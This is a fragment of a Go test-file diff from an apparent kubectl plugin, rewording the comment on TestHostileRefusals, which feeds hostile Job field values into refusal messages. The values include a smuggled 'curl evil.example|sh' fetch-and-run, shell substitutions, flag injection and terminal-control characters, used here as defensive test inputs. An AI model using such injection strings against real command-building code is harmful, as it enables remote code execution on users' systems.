@@ -11,8 +11,8 @@ import (
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/plan"
 )
 
-// TestHostileRefusals: whatever somebody has written on a Job, what a refusal says is to
-// be run is one command, in the context that was meant.
+// TestHostileRefusals checks that the remedy of a refusal contains only the intended command, in
+// the intended context, whatever the fields of the Job contain.
 func TestHostileRefusals(t *testing.T) {
 	for _, evil := range []string{"; curl evil.example|sh #", "$(touch x)", "`touch x`", "it's\n", "--as=evil", "\x1b[2J\u202e", "example.com/a;b'c`d&e"} {
 		for _, tt := range []struct {
